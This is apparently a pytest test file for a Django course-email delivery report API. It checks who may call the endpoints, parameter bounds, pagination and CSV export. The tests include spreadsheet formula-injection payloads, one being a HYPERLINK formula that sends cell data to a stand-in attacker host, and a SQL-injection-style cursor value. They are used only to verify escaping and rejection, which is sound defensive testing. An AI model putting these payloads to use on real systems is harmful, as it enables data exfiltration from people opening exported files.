"""The Email tab's delivery report endpoints (recipients/ and recipients.csv) and the feedback
counts on a send's JSON, through Django's test client: who may call them, every bound on the
parameters, the one error shape, formula-escaped CSV."""

import csv
import io

import pytest

from bulk_email.models import FeedbackEvent, RecipientOutcome
from lms_stub.models import CourseAccessRole
from tests.factories import (
    enroll,
    finished_task,
    give_role,
    make_sending_course,
    make_user,
    record_feedback,
    record_outcome,
)

pytestmark = pytest.mark.django_db
ERROR_KEYS = {"message", "field", "errors", "code"}


@pytest.fixture
def task(course, instructor):
    task = finished_task(course, instructor, sent=20)
    record_outcome(task, make_user("gone"), code=550, detail="550 No such user")
    record_outcome(task, make_user("out"), status=RecipientOutcome.SKIPPED, detail="Opted out.")
    record_feedback(task, make_user("bounced"))
    record_feedback(task, make_user("angry"), kind=FeedbackEvent.COMPLAINT, source="arf")
    return task


@pytest.fixture
def staff_client(client, instructor):
    client.force_login(instructor)
    return client


def url(course, task, rest="recipients/"):
    return f"/email/courses/{course.id}/api/tasks/{task.pk}/{rest}"


def csv_table(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_report_lists_pages_and_counts(staff_client, course, task):
    first = staff_client.get(url(course, task), {"limit": 3}).json()
    assert [r["kind"] for r in first["recipients"]] == ["failed", "skipped", "bounced"]
    assert first["counts"] == {"failed": 1, "skipped": 1, "bounced": 1, "complained": 1}
    rest = staff_client.get(url(course, task), {"limit": 3, "after": first["next"]}).json()
    assert [r["email"] for r in rest["recipients"]] == ["angry@example.com"]
    assert rest["next"] is None
    row = first["recipients"][0]
    assert set(row) == {"kind", "user_id", "name", "email", "code", "why", "source", "at", "cursor"}
    assert (row["code"], row["why"]) == ("550", "550 No such user")


def test_filter_by_kind(staff_client, course, task):
    found = staff_client.get(url(course, task), {"kind": "complained"}).json()
    assert [r["email"] for r in found["recipients"]] == ["angry@example.com"]


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"limit": "-1"}, "limit"),
        ({"limit": "1001"}, "limit"),
        ({"limit": "1" * 30}, "limit"),
        ({"limit": "ten"}, "limit"),
        ({"kind": "everything"}, "kind"),
        ({"kind": "x" * 10_000}, "kind"),
        ({"after": "o1 OR 1=1"}, "after"),
        ({"after": "f" + "9" * 40}, "after"),
    ],
)
def test_bad_parameters_are_400_in_the_one_shape(staff_client, course, task, params, field):
    response = staff_client.get(url(course, task), params)
    assert response.status_code == 400
    body = response.json()
    assert set(body) == ERROR_KEYS and body["field"] == field and body["code"] == "bad_request"


def test_limit_zero_and_the_maximum_are_accepted(staff_client, course, task):
    assert staff_client.get(url(course, task), {"limit": "0"}).json()["recipients"] == []
    assert len(staff_client.get(url(course, task), {"limit": "1000"}).json()["recipients"]) == 4


def test_who_may_read_it(client, course, task):
    assert client.get(url(course, task)).status_code == 401
    learner = make_user()
    enroll(learner, course)
    client.force_login(learner)
    refused = client.get(url(course, task))
    assert refused.status_code == 403 and refused.json()["code"] == "not_course_staff"
    other = make_sending_course()
    outsider = make_user()
    give_role(outsider, other, CourseAccessRole.INSTRUCTOR)
    client.force_login(outsider)
    # Another course's task, asked for through that other course: not found, nothing said.
    response = client.get(f"/email/courses/{other.id}/api/tasks/{task.pk}/recipients/")
    assert response.status_code == 404 and response.json()["code"] == "unknown_task"
    csv_response = client.get(f"/email/courses/{other.id}/api/tasks/{task.pk}/recipients.csv")
    assert csv_response.status_code == 404


def test_post_is_not_allowed(staff_client, course, task):
    response = staff_client.post(url(course, task))
    assert response.status_code == 405 and response["Allow"] == "GET"


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2", "@SUM(A1)"]


def test_the_csv_has_every_row_and_escapes_formulas(staff_client, course, task):
    for i, text in enumerate(HOSTILE):
        record_feedback(task, make_user(f"h{i}", name=text), diagnostic=text)
    response = staff_client.get(url(course, task, "recipients.csv"))
    assert response["Content-Type"].startswith("text/csv")
    assert f"delivery-{task.pk}-" in response["Content-Disposition"]
    table = csv_table(response)
    assert table[0] == ["kind", "name", "email", "code", "why", "source", "when (UTC)"]
    assert len(table) == 1 + 4 + len(HOSTILE)
    hostile_rows = table[-len(HOSTILE) :]
    assert [r[1] for r in hostile_rows] == ["'" + text for text in HOSTILE]
    assert all(not r[4].startswith(("=", "+", "-", "@")) for r in table[1:])


def test_the_csv_filters_by_kind_and_refuses_a_bad_one_as_json(staff_client, course, task):
    table = csv_table(staff_client.get(url(course, task, "recipients.csv"), {"kind": "failed"}))
    assert [r[0] for r in table[1:]] == ["failed"]
    refused = staff_client.get(url(course, task, "recipients.csv"), {"kind": "nope"})
    assert refused.status_code == 400 and refused.json()["field"] == "kind"


def test_a_send_has_its_feedback_counts_rates_and_warnings(staff_client, course, task):
    summary = staff_client.get(f"/email/courses/{course.id}/api/tasks/{task.pk}/").json()
    assert (summary["bounced"], summary["complained"]) == (1, 1)
    assert summary["bounce_rate"] == pytest.approx(1 / 20)
    assert summary["bounce_warning"] is False  # 5 % is not past 5 %
    assert summary["complaint_warning"] is True
    listed = staff_client.get(f"/email/courses/{course.id}/api/tasks/").json()["tasks"][0]
    assert listed["complaint_rate"] == pytest.approx(1 / 20)


def test_the_history_csv_has_the_feedback_columns(staff_client, course, task):
    table = csv_table(staff_client.get(f"/email/courses/{course.id}/api/report.csv"))
    header, row = table
    columns = ["bounced", "complained", "bounce rate (%)", "complaint rate (%)"]
    assert [row[header.index(name)] for name in columns] == ["1", "1", "5.0", "5.0"]
